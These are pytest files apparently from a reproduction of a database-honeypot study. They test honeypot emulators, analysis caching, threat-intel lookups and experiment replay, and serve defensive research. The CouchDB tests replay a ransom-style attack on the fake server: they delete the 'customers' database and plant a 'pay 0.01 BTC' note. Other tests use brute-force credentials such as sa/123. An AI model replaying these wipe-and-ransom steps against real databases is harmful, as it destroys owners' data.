            assert a.src_ip.decode() == b.src_ip.decode()
            assert a.action.decode() == b.action.decode()
        assert full.n == pushed.events().n

    def test_unique_values(self, db_path):
        store = AnalysisStore(db_path, use_cache=False)
        assert sorted(store.events().dbms.unique_values()) == [
            "mysql", "redis"]


class TestStoreMatchesDirectLoad:
    def test_profiles_equal_path_api(self, db_path):
        store = AnalysisStore(db_path, use_cache=False)
        assert store.profiles() == load_ip_profiles(db_path)
        assert (store.profiles(interaction="low")
                == load_ip_profiles(db_path, interaction="low"))

    def test_cluster_labels_equal_profile_api(self, db_path):
        store = AnalysisStore(db_path, use_cache=False)
        profiles = load_ip_profiles(db_path)
        direct = cluster_dbms(profiles, "redis", distance_threshold=0.1)
        assert store.cluster_labels("redis",
                                    distance_threshold=0.1) == direct
        # Two credential/action dialects -> two clusters.
        assert len(set(direct.values())) == 2


class TestWarmCache:
    def test_warm_results_byte_identical_to_cold(self, db_path):
        cold = AnalysisStore(db_path)
        cold_profiles = cold.profiles()
        cold_tf = cold.tf("redis")
        cold_linkage = cold.linkage("redis")
        assert cold.stats["misses"] > 0 and cold.stats["scans"] == 1

        warm = AnalysisStore(db_path)
        assert warm.profiles() == cold_profiles
        assert pickle.dumps(warm.profiles()) == pickle.dumps(cold_profiles)
        assert warm.tf("redis").ips == cold_tf.ips
        assert np.array_equal(warm.tf("redis").matrix, cold_tf.matrix)
        assert np.array_equal(warm.linkage("redis"), cold_linkage)
        # The warm store never touched the events table.
        assert warm.stats["scans"] == 0
        assert warm.stats["misses"] == 0
        assert warm.stats["hits"] >= 3

    def test_warm_report_text_byte_identical(self, db_path):
        from repro.cli import report_text

        with AnalysisStore(db_path) as store:
            cold = report_text(store, store, 0.002)
        with AnalysisStore(db_path) as store:
            warm = report_text(store, store, 0.002)
            assert store.stats["scans"] == 0
        assert warm == cold

    def test_memory_memoization_without_disk(self, db_path):
        store = AnalysisStore(db_path, use_cache=False)
        assert store.profiles() is store.profiles()
        assert store.stats["scans"] == 1
        assert not store.cache_dir.exists()


class TestInvalidation:
    @staticmethod
    def _insert_event(db_path, ip="198.51.100.9"):
        with sqlite3.connect(db_path) as connection:
            connection.execute(
                "INSERT INTO events (timestamp, honeypot_id, "
                "honeypot_type, dbms, interaction, config, src_ip, "
                "src_port, event_type, country, as_name, as_type, "
                "institutional) VALUES (?, 'hp', 'test', 'redis', "
                "'medium', 'multi', ?, 1, 'connect', "
                "'US', 'ExampleNet', 'hosting', 0)",
                (BASE_TS + 9999, ip))

    def test_changed_database_invalidates(self, db_path):
        first = AnalysisStore(db_path)
        before = first.profiles()
        digest_before = first.digest
        first.close()

        self._insert_event(db_path)

        second = AnalysisStore(db_path)
        after = second.profiles()
        assert second.digest != digest_before
        assert second.stats["scans"] == 1  # cache did not satisfy it
        assert ("198.51.100.9", "redis") in after
        assert ("198.51.100.9", "redis") not in before

    def test_long_lived_store_sees_rewritten_database(self, db_path):
        # Regression: the digest used to be computed once per store
        # lifetime, so a report -> re-run -> report sequence in one
        # process served artifacts keyed to the dead digest.
        store = AnalysisStore(db_path)
        before = store.profiles()
        digest_before = store.digest
        assert ("198.51.100.9", "redis") not in before

        self._insert_event(db_path)

        after = store.profiles()
        assert store.digest != digest_before
        assert ("198.51.100.9", "redis") in after
        # And the refreshed digest keys fresh disk artifacts: a second
        # store opened now is warm against the *new* content.
        warm = AnalysisStore(db_path)
        assert warm.profiles() == after
        assert warm.stats["scans"] == 0

    def test_long_lived_uncached_store_drops_memo_on_rewrite(
            self, db_path):
        store = AnalysisStore(db_path, use_cache=False)
        before = store.profiles()
        self._insert_event(db_path, ip="203.0.113.77")
        after = store.profiles()
        assert after is not before
        assert ("203.0.113.77", "redis") in after

    def test_stale_artifacts_ignored_not_crashed(self, db_path):
        cold = AnalysisStore(db_path)
        cold.profiles()
        cold.linkage("redis")
        (profiles_file,) = cold.cache_dir.glob("profiles-*.pkl")
        (linkage_file,) = cold.cache_dir.glob("linkage-*.pkl")
        profiles_file.write_bytes(b"\x00garbage")              # corrupt
        linkage_file.write_bytes(pickle.dumps({"version": -1}))  # stale

        warm = AnalysisStore(db_path)
        assert warm.profiles() == cold.profiles()
        assert np.array_equal(warm.linkage("redis"),
                              cold.linkage("redis"))
        assert warm.stats["stale"] == 2
        # Both rebuilds were fed from still-valid cached inputs
        # (columnar events, the TF matrix) -- no rescan.
        assert warm.stats["scans"] == 0

    def test_clear_cache(self, db_path):
        store = AnalysisStore(db_path)
        store.profiles()
        assert store.clear_cache() > 0
        assert not list(store.cache_dir.glob("*.pkl"))


class TestEnvironmentKnobs:
    def test_toggle_env_disables_persistence(self, db_path, monkeypatch):
        monkeypatch.setenv(CACHE_TOGGLE_ENV, "0")
        store = AnalysisStore(db_path)
        store.profiles()
        assert not store.use_cache
        assert not store.cache_dir.exists()

    def test_cache_dir_env_relocates(self, db_path, monkeypatch, tmp_path):
        target = tmp_path / "elsewhere"
        monkeypatch.setenv(CACHE_DIR_ENV, str(target))
        store = AnalysisStore(db_path)
        store.profiles()
        assert store.cache_dir.is_dir()
        assert store.cache_dir.parent == target
        assert not db_path.with_name(f"{db_path.name}.cache").exists()


class TestBorrowStore:
    def test_path_gets_private_uncached_store(self, db_path):
        with borrow_store(db_path) as store:
            assert isinstance(store, AnalysisStore)
            assert not store.use_cache
        assert store._connection is None  # closed on exit

    def test_existing_store_is_shared_not_closed(self, db_path):
        owner = AnalysisStore(db_path, use_cache=False)
        owner.events()
        with borrow_store(owner) as store:
            assert store is owner
        assert owner._connection is not None
        owner.close()


class TestConverterIndexes:
    def test_pushdown_indexes_and_analyze(self, db_path):
        with sqlite3.connect(db_path) as connection:
            indexes = {row[0] for row in connection.execute(
                "SELECT name FROM sqlite_master WHERE type = 'index'")}
            assert "idx_events_pushdown" in indexes
            assert "idx_events_src_dbms" in indexes
            # ANALYZE ran at conversion time.
            stats = connection.execute(
                "SELECT COUNT(*) FROM sqlite_stat1").fetchone()[0]
            assert stats > 0
            # The planner actually uses the composite index for the
            # store's filtered scans.
            (plan,) = [row[3] for row in connection.execute(
                "EXPLAIN QUERY PLAN SELECT * FROM events "
                "WHERE interaction = 'low' AND dbms = 'mysql'")][:1]
            assert "idx_events_pushdown" in plan
