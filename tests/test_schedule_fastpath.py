"""Indexed deployment plan + session fast lane: equivalence pins.

The tentpole refactor replaced ``DeploymentPlan.select()``'s linear
scan with precomputed wildcard indexes, pooled the behavior-level
target selections, and moved per-event work out of the session hot
path.  These tests pin both halves:

* property-style: every filter combination (including ``None``
  wildcards and bogus values) returns exactly what a linear scan over
  ``plan.targets`` returns, in plan order;
* end-to-end: replaying with the optimised code produces byte-for-byte
  the same databases, counts, and chaos accounting as the pre-refactor
  code, whose outputs are frozen in
  ``tests/data/schedule_reference.json`` (serial and 4-way sharded,
  two scales, clean and under the ``all`` fault plan).
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path

import pytest

from repro.agents.pools import low_pool, low_scan_pool, midhigh_pool
from repro.deployment import ExperimentConfig, run_experiment
from repro.deployment.plan import build_plan
from repro.resilience import faults

from .test_replay_sharded import table_digests

REFERENCE = json.loads(
    (Path(__file__).parent / "data" /
     "schedule_reference.json").read_text())
SEED = REFERENCE["seed"]

INTERACTIONS = (None, "low", "medium", "high", "bogus")
DBMSES = (None, "mysql", "postgresql", "redis", "mssql",
          "elasticsearch", "mongodb", "bogus")
CONFIGS = (None, "default", "fake_data", "login_disabled", "multi",
           "single", "bogus")


def linear_scan(plan, interaction, dbms, config):
    """The pre-refactor reference semantics: scan every target, keep
    those matching all non-``None`` filters, in plan order."""
    found = []
    for target in plan.targets:
        if interaction is not None and \
                target.honeypot.interaction != interaction:
            continue
        if dbms is not None and target.honeypot.dbms != dbms:
            continue
        if config is not None and target.honeypot.info.config != config:
            continue
        found.append(target)
    return found


@pytest.fixture(scope="module")
def plan():
    return build_plan(seed=SEED)


class TestIndexedSelect:
    def test_select_matches_linear_scan_for_every_filter(self, plan):
        for interaction, dbms, config in itertools.product(
                INTERACTIONS, DBMSES, CONFIGS):
            expected = linear_scan(plan, interaction, dbms, config)
            got = plan.select(interaction=interaction, dbms=dbms,
                              config=config)
            assert got == expected, (interaction, dbms, config)
            assert plan.select_keys(
                interaction=interaction, dbms=dbms, config=config
            ) == tuple(target.key for target in expected)

    def test_select_returns_fresh_lists(self, plan):
        first = plan.select(interaction="low")
        first.append("sentinel")
        assert plan.select(interaction="low") != first

    def test_hosts_matches_first_seen_scan(self, plan):
        for config in CONFIGS[1:]:
            expected: list[str] = []
            for target in plan.targets:
                if target.honeypot.info.config == config and \
                        target.host not in expected:
                    expected.append(target.host)
            assert plan.hosts(config=config) == expected

    def test_cached_identity_fields(self, plan):
        for target in plan.targets:
            assert target.dbms == target.honeypot.dbms
            assert target.interaction == target.honeypot.interaction
            assert target.config == target.honeypot.info.config

    def test_by_key_error_names_key_and_nearest_matches(self, plan):
        with pytest.raises(KeyError) as excinfo:
            plan.by_key("low/multi/00/mysq")
        message = str(excinfo.value)
        assert "unknown deployment target 'low/multi/00/mysq'" in message
        assert "low/multi/00/mysql" in message
        with pytest.raises(KeyError, match="unknown deployment target"):
            plan.by_key("zzz/not/even/close")

    def test_select_calls_counter(self, plan):
        before = plan.select_calls
        plan.select(dbms="redis")
        plan.select_keys(dbms="redis")
        assert plan.select_calls == before + 2


class TestPoolRegistry:
    def test_low_pool_matches_select_and_is_shared(self, plan):
        for dbms in DBMSES[1:5]:
            multi = plan.select_keys(interaction="low", dbms=dbms,
                                     config="multi")
            single = plan.select_keys(interaction="low", dbms=dbms,
                                      config="single")
            assert low_pool(plan, dbms, "both") == multi + single
            assert low_pool(plan, dbms, "multi") == multi
            # Resolved once per plan: identical object both times.
            assert low_pool(plan, dbms, "both") is \
                low_pool(plan, dbms, "both")

    def test_low_pool_raises_on_empty(self, plan):
        with pytest.raises(ValueError,
                           match="no low-interaction targets"):
            low_pool(plan, "mongodb", "both")

    def test_low_scan_pool_concatenates_services(self, plan):
        services = ("mysql", "redis")
        pool = low_scan_pool(plan, services, "both")
        assert pool == low_pool(plan, "mysql", "both") + \
            low_pool(plan, "redis", "both")
        assert pool is low_scan_pool(plan, services, "both")

    def test_midhigh_pool_interaction_rule(self, plan):
        assert midhigh_pool(plan, "mongodb") == plan.select_keys(
            interaction="high", dbms="mongodb")
        assert midhigh_pool(plan, "redis") == plan.select_keys(
            interaction="medium", dbms="redis")
        assert midhigh_pool(plan, "redis", "fake_data") == \
            plan.select_keys(interaction="medium", dbms="redis",
                             config="fake_data")
        assert midhigh_pool(plan, "redis") is midhigh_pool(plan, "redis")

    def test_pools_are_cached_per_plan(self, plan):
        other = build_plan(seed=SEED)
        assert low_pool(plan, "mysql", "both") is not \
            low_pool(other, "mysql", "both")
        assert low_pool(plan, "mysql", "both") == \
            low_pool(other, "mysql", "both")


def run(tmp_path, *, scale, workers=1, fault_plan=None):
    return run_experiment(ExperimentConfig(
        seed=SEED, volume_scale=scale, output_dir=tmp_path,
        workers=workers, telemetry=fault_plan is not None,
        fault_plan=fault_plan))


def reference_run(key):
    return REFERENCE["runs"][key]


def assert_matches_reference(result, want):
    assert result.events_total == want["events_total"]
    assert result.visits_total == want["visits_total"]
    assert table_digests(result.low_db) == want["low"]
    assert table_digests(result.midhigh_db) == want["midhigh"]


class TestEndToEndUnchanged:
    """Byte-for-byte equality against the pre-refactor outputs."""

    def test_serial_small_scale(self, tmp_path):
        result = run(tmp_path, scale=5e-05)
        assert_matches_reference(
            result, reference_run("scale=5e-05:workers=1"))

    def test_serial_large_scale(self, tmp_path):
        result = run(tmp_path, scale=0.0002)
        assert_matches_reference(
            result, reference_run("scale=0.0002:workers=1"))

    def test_sharded_small_scale(self, tmp_path):
        result = run(tmp_path, scale=5e-05, workers=4)
        assert_matches_reference(
            result, reference_run("scale=5e-05:workers=4"))

    def test_chaos_serial_small_scale(self, tmp_path):
        plan = faults.load_plan("all", seed=SEED)
        result = run(tmp_path, scale=5e-05, fault_plan=plan)
        want = reference_run("chaos=all:scale=5e-05:workers=1")
        assert_matches_reference(result, want)
        assert result.events_generated == want["events_generated"]
        assert result.events_quarantined == want["events_quarantined"]
        assert result.quarantined_visits == want["quarantined_visits"]
        assert {site: dict(stats)
                for site, stats in plan.snapshot().items()} == \
            want["faults"]
