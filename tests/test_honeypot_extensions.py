"""Tests for the extension honeypots (MariaDB, CockroachDB, CouchDB)."""

import json

import pytest

from repro.honeypots.base import MemoryWire
from repro.honeypots.extensions import (MARIADB_VERSION,
                                        CockroachHoneypot,
                                        CouchDBHoneypot,
                                        LowInteractionMariaDB)
from repro.pipeline.logstore import EventType
from repro.protocols import http11, mysql, postgres as pg


class TestMariaDB:
    def test_banner_advertises_mariadb(self, session_context):
        wire = MemoryWire(LowInteractionMariaDB("hp"), session_context)
        greeting = wire.connect()
        (packet,) = mysql.PacketReader().feed(greeting)
        handshake = mysql.parse_handshake_v10(packet[1])
        assert handshake.server_version == MARIADB_VERSION
        assert "MariaDB" in handshake.server_version

    def test_credentials_captured(self, session_context, log_store):
        wire = MemoryWire(LowInteractionMariaDB("hp"), session_context)
        wire.connect()
        wire.send(mysql.frame(
            mysql.build_handshake_response("root", b"\x00" * 20), 1))
        wire.send(mysql.frame(
            mysql.build_clear_password_response("maria123"), 3))
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert login.password == "maria123"
        assert login.dbms == "mariadb"

    def test_metadata(self):
        honeypot = LowInteractionMariaDB("hp")
        assert honeypot.info.dbms == "mariadb"
        assert honeypot.info.interaction == "low"


class TestCockroach:
    def test_pgwire_login_and_query(self, session_context, log_store):
        wire = MemoryWire(CockroachHoneypot("hp"), session_context)
        wire.connect()
        wire.send(pg.build_startup_message("root"))
        reply = wire.send(pg.build_password_message("admin"))
        types = [m.type_code for m in pg.parse_backend_messages(reply)]
        assert b"Z" in types
        reply = wire.send(pg.build_query("SELECT version();"))
        rows = [m for m in pg.parse_backend_messages(reply)
                if m.type_code == b"D"]
        assert rows
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert login.dbms == "cockroachdb"

    def test_identity(self):
        honeypot = CockroachHoneypot("hp")
        assert honeypot.info.dbms == "cockroachdb"
        assert honeypot.info.port == 26257


@pytest.fixture
def couch(session_context):
    wire = MemoryWire(CouchDBHoneypot("hp"), session_context)
    wire.connect()
    return wire


def get(wire, target):
    return http11.parse_response(wire.send(
        http11.build_request("GET", target)))


class TestCouchDB:
    def test_banner(self, couch):
        body = json.loads(get(couch, "/").body)
        assert body["couchdb"] == "Welcome"
        assert body["version"] == "3.3.1"

    def test_all_dbs_enumeration(self, couch):
        body = json.loads(get(couch, "/_all_dbs").body)
        assert body == ["customers"]

    def test_session_login_captured_and_rejected(self, couch,
                                                 log_store):
        response = http11.parse_response(couch.send(http11.build_request(
            "POST", "/_session", body=b"name=admin&password=couch123",
            headers={"Content-Type":
                     "application/x-www-form-urlencoded"})))
        assert response.status == 401
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert (login.username, login.password) == ("admin", "couch123")

    def test_json_session_login(self, couch, log_store):
        couch.send(http11.build_request(
            "POST", "/_session",
            body=json.dumps({"name": "root", "password": "pw"}),
            headers={"Content-Type": "application/json"}))
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert login.username == "root"

    def test_all_docs_dump(self, couch):
        body = json.loads(get(couch, "/customers/_all_docs").body)
        assert body["total_rows"] == 40

    def test_database_lifecycle(self, couch):
        response = http11.parse_response(couch.send(
            http11.build_request("PUT", "/ransomdb")))
        assert response.status == 201
        assert "ransomdb" in json.loads(get(couch, "/_all_dbs").body)
        response = http11.parse_response(couch.send(
            http11.build_request("DELETE", "/customers")))
        assert response.status == 200
        assert json.loads(get(couch, "/_all_dbs").body) == ["ransomdb"]

    def test_document_insert(self, couch):
        response = http11.parse_response(couch.send(http11.build_request(
            "PUT", "/customers/README",
            body=json.dumps({"note": "pay 0.01 BTC"}).encode())))
        assert response.status == 201
        body = json.loads(get(couch, "/customers/_all_docs").body)
        assert body["total_rows"] == 41

    def test_unknown_database_404(self, couch):
        assert get(couch, "/nope").status == 404

    def test_fauxton_ui_served(self, couch):
        response = get(couch, "/_utils")
        assert b"Fauxton" in response.body

    def test_membership_endpoint(self, couch):
        body = json.loads(get(couch, "/_membership").body)
        assert body["all_nodes"] == ["couchdb@127.0.0.1"]

    def test_requests_logged(self, couch, log_store):
        get(couch, "/_all_dbs")
        events = [e for e in log_store
                  if e.event_type == EventType.HTTP_REQUEST.value]
        assert events[-1].action == "GET /_all_dbs"
        assert events[-1].dbms == "couchdb"
