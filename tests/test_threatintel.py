"""Tests for the threat-intelligence snapshots and cross-referencing."""

from repro.threatintel import (AbuseIPDBSnapshot, FeodoTracker,
                               GreynoiseSnapshot, TeamCymruSnapshot,
                               ThreatIntelWorld, crossref)
from repro.threatintel.platforms import (AbuseReport, CymruRecord,
                                         GreynoiseRecord)


class TestGreynoise:
    def test_lookup_and_classification(self):
        snapshot = GreynoiseSnapshot()
        snapshot.add(GreynoiseRecord("1.1.1.1", "malicious",
                                     tags=("MSSQL bruteforcer",)))
        snapshot.add(GreynoiseRecord("2.2.2.2", "benign"))
        assert snapshot.is_malicious("1.1.1.1")
        assert not snapshot.is_malicious("2.2.2.2")
        assert not snapshot.is_malicious("3.3.3.3")
        assert snapshot.lookup("3.3.3.3") is None
        assert snapshot.lookup("1.1.1.1").tags == ("MSSQL bruteforcer",)


class TestAbuseIPDB:
    def test_report_recency_window(self):
        snapshot = AbuseIPDBSnapshot()
        snapshot.add(AbuseReport("1.1.1.1", "port scan", age_days=30))
        snapshot.add(AbuseReport("1.1.1.1", "brute-force", age_days=300))
        assert snapshot.recently_reported("1.1.1.1")
        recent = snapshot.reports("1.1.1.1", within_days=180)
        assert len(recent) == 1
        assert recent[0].category == "port scan"
        assert not snapshot.recently_reported("1.1.1.1", within_days=10)

    def test_unreported_ip(self):
        assert not AbuseIPDBSnapshot().recently_reported("9.9.9.9")


class TestCymruAndFeodo:
    def test_cymru_suspicious(self):
        snapshot = TeamCymruSnapshot()
        snapshot.add(CymruRecord("1.1.1.1", "suspicious",
                                 tags=("redis scanner",)))
        snapshot.add(CymruRecord("2.2.2.2", "no rating"))
        assert snapshot.is_suspicious("1.1.1.1")
        assert not snapshot.is_suspicious("2.2.2.2")
        assert not snapshot.is_suspicious("3.3.3.3")

    def test_feodo(self):
        tracker = FeodoTracker()
        tracker.add("6.6.6.6")
        assert tracker.is_c2("6.6.6.6")
        assert not tracker.is_c2("7.7.7.7")


class TestCrossref:
    def build_world(self) -> ThreatIntelWorld:
        world = ThreatIntelWorld()
        world.greynoise.add(GreynoiseRecord("1.1.1.1", "malicious"))
        world.abuseipdb.add(AbuseReport("1.1.1.1", "port scan", 5))
        world.abuseipdb.add(AbuseReport("2.2.2.2", "brute-force", 5))
        world.teamcymru.add(CymruRecord("3.3.3.3", "suspicious"))
        return world

    def test_coverage_counts(self):
        report = crossref(["1.1.1.1", "2.2.2.2", "3.3.3.3", "4.4.4.4"],
                          self.build_world())
        assert report.population == 4
        assert report.greynoise_malicious == 1
        assert report.abuseipdb_reported == 2
        assert report.cymru_suspicious == 1
        assert report.feodo_c2 == 0

    def test_duplicates_deduplicated(self):
        report = crossref(["1.1.1.1", "1.1.1.1"], self.build_world())
        assert report.population == 1

    def test_rates_and_rows(self):
        report = crossref(["1.1.1.1", "2.2.2.2"], self.build_world())
        assert report.rate(report.abuseipdb_reported) == 1.0
        rows = report.rows()
        assert len(rows) == 4
        assert rows[0][0].startswith("Greynoise")

    def test_empty_population(self):
        report = crossref([], ThreatIntelWorld())
        assert report.population == 0
        assert report.rate(0) == 0.0
