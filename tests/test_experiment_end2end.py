"""End-to-end test: a downscaled full experiment through the pipeline
and the complete analysis, asserting the paper's headline shapes."""

import sqlite3

import pytest

from repro.core.bruteforce import (average_attempts_per_client,
                                   brute_force_ips, credential_stats,
                                   logins_by_country)
from repro.core.campaigns import campaign_summary
from repro.core.classification import BehaviorClass, classify_ips
from repro.core.intersections import upset_intersections
from repro.core.loading import load_ip_profiles
from repro.core.reports import (classification_table, config_effect,
                                exploit_countries, single_vs_multi)
from repro.core.retention import (retention_by_class, retention_overall,
                                  single_day_fraction)
from repro.core.temporal import hourly_series
from repro.threatintel import crossref


@pytest.fixture(scope="module")
def low_profiles(small_experiment):
    return load_ip_profiles(small_experiment.low_db)


@pytest.fixture(scope="module")
def mid_profiles(small_experiment):
    return load_ip_profiles(small_experiment.midhigh_db)


class TestLowTier:
    def test_population_matches_paper(self, small_experiment):
        connection = sqlite3.connect(small_experiment.low_db)
        (unique,) = connection.execute(
            "SELECT COUNT(DISTINCT src_ip) FROM events").fetchone()
        connection.close()
        assert unique == 3340

    def test_mssql_dominates_logins(self, small_experiment):
        stats = {dbms: credential_stats(small_experiment.low_db,
                                        dbms).total_attempts
                 for dbms in ("mssql", "mysql", "postgresql")}
        total = sum(stats.values())
        assert stats["mssql"] / total > 0.9

    def test_sa_is_top_username(self, small_experiment):
        stats = credential_stats(small_experiment.low_db, "mssql")
        assert stats.top_usernames[0][0] == "sa"
        assert stats.top_pairs[0][0] == ("sa", "123")

    def test_more_unique_passwords_than_usernames(self, small_experiment):
        stats = credential_stats(small_experiment.low_db, "mssql")
        assert stats.unique_passwords > stats.unique_usernames

    def test_brute_forcer_count(self, small_experiment):
        assert len(brute_force_ips(small_experiment.low_db)) == 599

    def test_russia_tops_login_table(self, small_experiment):
        rows = logins_by_country(small_experiment.low_db)
        assert rows[0].country == "Russia"
        assert rows[0].by_dbms.get("mssql", 0) > 0.99 * rows[0].logins
        countries = [row.country for row in rows]
        assert "China" in countries[:3]

    def test_redis_receives_no_logins(self, small_experiment):
        stats = credential_stats(small_experiment.low_db, "redis")
        assert stats.total_attempts == 0

    def test_retention_single_day_fraction(self, low_profiles):
        fraction = single_day_fraction(retention_overall(low_profiles))
        assert 0.35 <= fraction <= 0.50

    def test_single_vs_multi_shape(self, small_experiment):
        result = single_vs_multi(small_experiment.low_db)
        assert result.single_ips == 1720
        assert 2900 <= result.multi_ips <= 3200
        assert 1300 <= result.overlap <= 1600
        assert result.brute_multi_only > result.brute_single_only

    def test_temporal_series_covers_window(self, small_experiment):
        series = hourly_series(small_experiment.low_db)
        assert 24 * 19 <= series.hours <= 24 * 20
        assert series.total_unique == 3340

    def test_average_attempts_scale(self, small_experiment):
        scale = small_experiment.config.volume_scale
        average = average_attempts_per_client(small_experiment.low_db)
        # Paper: 5,373 attempts averaged over all clients.
        assert average / scale == pytest.approx(5373, rel=0.35)


class TestMidHighTier:
    def test_per_dbms_unique_ips_match_table8(self, small_experiment):
        connection = sqlite3.connect(small_experiment.midhigh_db)
        counts = dict(connection.execute(
            "SELECT dbms, COUNT(DISTINCT src_ip) FROM events "
            "GROUP BY dbms"))
        connection.close()
        assert counts == {"elasticsearch": 1237, "mongodb": 1233,
                          "postgresql": 1955, "redis": 980}

    def test_classification_counts_match_table8(self, mid_profiles):
        rows = {row.dbms: row for row in
                classification_table(mid_profiles,
                                     distance_threshold=0.1)}
        assert (rows["elasticsearch"].scanning,
                rows["elasticsearch"].scouting,
                rows["elasticsearch"].exploiting) == (608, 627, 2)
        assert (rows["mongodb"].scanning, rows["mongodb"].scouting,
                rows["mongodb"].exploiting) == (706, 465, 62)
        assert (rows["postgresql"].scanning, rows["postgresql"].scouting,
                rows["postgresql"].exploiting) == (1140, 593, 222)
        assert (rows["redis"].scanning, rows["redis"].scouting,
                rows["redis"].exploiting) == (676, 266, 38)

    def test_cluster_counts_in_paper_range(self, mid_profiles):
        rows = {row.dbms: row.clusters for row in
                classification_table(mid_profiles,
                                     distance_threshold=0.1)}
        # Paper: 60 / 30 / 79 / 26 -- assert the right ballpark and
        # ordering of magnitude.
        assert 35 <= rows["elasticsearch"] <= 90
        assert 15 <= rows["mongodb"] <= 45
        assert 45 <= rows["postgresql"] <= 110
        assert 15 <= rows["redis"] <= 45

    def test_total_exploiters_is_324(self, mid_profiles):
        classifications = classify_ips(mid_profiles)
        exploiters = {key[0] for key, c in classifications.items()
                      if BehaviorClass.EXPLOITING in c.classes}
        assert len(exploiters) == 324

    def test_campaign_summary_matches_table9(self, mid_profiles):
        rows = {(row.dbms, row.tag): row.ip_count
                for row in campaign_summary(mid_profiles)}
        assert rows[("redis", "P2P infect (Worm)")] == 35
        assert rows[("redis", "ABCbot (Botnet)")] == 1
        assert rows[("redis", "CVE-2022-0543")] == 1
        assert rows[("postgresql", "Kinsing malware")] == 196
        assert rows[("mongodb", "Data theft and ransom")] == 62
        assert rows[("elasticsearch", "Lucifer botnet")] == 2
        assert rows[("postgresql", "RDP scanning")] == 164
        assert rows[("redis", "RDP scanning")] == 14
        assert rows[("redis", "JDWP scanning")] == 2
        assert rows[("elasticsearch", "CVE-2021-22005 (VMware)")] == 15
        assert rows[("elasticsearch", "CVE-2023-41892 (CraftCMS)")] == 2
        assert rows[("postgresql", "Brute-force attacks")] == 84
        assert rows[("redis", "Brute-force attacks")] == 5

    def test_exploiters_most_persistent(self, mid_profiles):
        cdfs = retention_by_class(mid_profiles,
                                  classify_ips(mid_profiles))
        scan = cdfs[BehaviorClass.SCANNING].mean_days()
        scout = cdfs[BehaviorClass.SCOUTING].mean_days()
        exploit = cdfs[BehaviorClass.EXPLOITING].mean_days()
        assert exploit > scout > scan

    def test_exploit_countries_topped_by_us(self, mid_profiles):
        rows = exploit_countries(mid_profiles)
        assert rows[0][0] == "United States"
        top = dict((c, n) for c, n, _split in rows)
        assert top["United States"] == 52
        assert top["China"] == 45

    def test_most_ips_hit_single_honeypot(self, mid_profiles):
        upset = upset_intersections(mid_profiles)
        assert upset.single_family_fraction() > 0.7
        # The RDP cross-service cohort shows up.
        assert upset.count("postgresql", "redis") >= 10

    def test_restricted_psql_attracts_more_logins(self, small_experiment):
        effect = config_effect(small_experiment.midhigh_db)
        ratio = (effect.psql_restricted_logins
                 / max(1, effect.psql_open_logins))
        assert 1.3 <= ratio <= 3.5

    def test_fake_data_redis_drives_type_probing(self, small_experiment):
        effect = config_effect(small_experiment.midhigh_db)
        assert effect.redis_fake_data_type_cmds > 100
        assert effect.redis_default_type_cmds < \
            effect.redis_fake_data_type_cmds / 10


class TestThreatIntel:
    def test_bruteforcers_moderately_covered(self, small_experiment):
        world = small_experiment.world
        report = crossref(brute_force_ips(small_experiment.low_db),
                          world.intel)
        assert 0.12 <= report.rate(report.greynoise_malicious) <= 0.32
        assert 0.5 <= report.rate(report.abuseipdb_reported) <= 0.8
        assert 0.35 <= report.rate(report.cymru_suspicious) <= 0.6
        assert report.feodo_c2 == 0

    def test_exploiters_mostly_unreported(self, small_experiment,
                                          mid_profiles):
        classifications = classify_ips(mid_profiles)
        exploiters = {key[0] for key, c in classifications.items()
                      if BehaviorClass.EXPLOITING in c.classes}
        report = crossref(exploiters, small_experiment.world.intel)
        assert report.rate(report.greynoise_malicious) <= 0.2
        assert report.rate(report.abuseipdb_reported) <= 0.25
        assert report.cymru_suspicious <= 10
        assert report.feodo_c2 == 0


class TestDeterminism:
    def test_same_seed_same_events(self, tmp_path):
        from repro.deployment import ExperimentConfig, run_experiment
        from repro.pipeline.convert import read_events

        config_a = ExperimentConfig(seed=77, volume_scale=0.0002,
                                    output_dir=tmp_path / "a")
        config_b = ExperimentConfig(seed=77, volume_scale=0.0002,
                                    output_dir=tmp_path / "b")
        result_a = run_experiment(config_a)
        result_b = run_experiment(config_b)
        rows_a = [tuple(row)[1:] for row in read_events(result_a.low_db)]
        rows_b = [tuple(row)[1:] for row in read_events(result_b.low_db)]
        assert rows_a == rows_b
