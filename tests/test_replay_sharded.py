"""Sharded replay must be observationally identical to serial replay.

The whole point of :class:`ShardedExecutor` is that ``--workers N`` is
purely an execution detail: same seed in, same events out, same
databases, same chaos accounting.  These tests pin that guarantee at
three levels -- raw outcome streams, full experiment artifacts, and
fault-injected runs -- plus the static shard-assignment properties the
guarantee rests on.
"""

import hashlib
import sqlite3

import pytest

from repro import obs
from repro.agents.population import build_world
from repro.deployment import ExperimentConfig, run_experiment
from repro.deployment.plan import build_plan
from repro.deployment.replay import (SerialExecutor, ShardedExecutor,
                                     build_engine, compile_visits,
                                     shard_of)
from repro.resilience import faults

SCALE = 0.0002
SEED = 2024


def table_digests(db_path) -> dict[str, str]:
    """Order-insensitive content digest per table, ignoring the
    autoincrement ``id`` (insertion order is pipeline-arrival order,
    which sharding is allowed to change -- content is not)."""
    digests = {}
    with sqlite3.connect(db_path) as connection:
        tables = [row[0] for row in connection.execute(
            "SELECT name FROM sqlite_master WHERE type='table'"
            " AND name NOT LIKE 'sqlite_%'")]
        for table in tables:
            columns = [row[1] for row in connection.execute(
                f"PRAGMA table_info({table})") if row[1] != "id"]
            selected = ", ".join(columns)
            rows = sorted(
                repr(row) for row in connection.execute(
                    f"SELECT {selected} FROM {table}"))
            digest = hashlib.sha256()
            for row in rows:
                digest.update(row.encode("utf-8"))
            digests[table] = digest.hexdigest()
    return digests


def run(tmp_path, *, workers=1, fault_plan=None, seed=SEED):
    return run_experiment(ExperimentConfig(
        seed=seed, volume_scale=SCALE, output_dir=tmp_path,
        telemetry=True, workers=workers, fault_plan=fault_plan))


@pytest.fixture(scope="module")
def serial(tmp_path_factory):
    return run(tmp_path_factory.mktemp("serial"))


@pytest.fixture(scope="module")
def sharded(tmp_path_factory):
    return run(tmp_path_factory.mktemp("sharded"), workers=4)


class TestShardAssignment:
    def test_stable_and_in_range(self):
        keys = [f"vm-multi-{i:02d}:mysql" for i in range(50)]
        first = [shard_of(key, 4) for key in keys]
